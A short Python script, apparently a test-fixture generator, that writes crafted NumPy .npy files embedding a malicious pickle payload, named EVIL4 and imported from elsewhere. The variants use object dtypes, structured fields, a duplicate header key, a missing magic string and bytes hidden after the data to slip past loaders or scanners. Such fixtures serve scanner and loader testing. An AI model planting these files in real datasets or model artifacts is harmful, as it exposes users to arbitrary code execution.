# Arrays of objects are pickles; and numpy.load takes a file without its magic for one.
from pickle_asm import *


import zipfile


def npy(descr, body, shape="(1,)", extra=""):
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, {extra}}}"
    header += " " * (64 - (len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode("latin-1") + body


PICKLE = framed(EVIL4 + STOP)
save("objects.npy", npy("'|O'", PICKLE))
save("field.npy", npy("[('a', '<i4'), ('b', '|O')]", PICKLE))
save("nested_field.npy", npy("[('a', [('b', '|O')])]", PICKLE))
save("last_key_wins.npy", npy("'<f8'", PICKLE, extra="'descr': '|O'"))
save("bare_pickle.npy", PICKLE)
save("behind_the_data.npy", npy("'<f8'", bytes(8) + PICKLE))
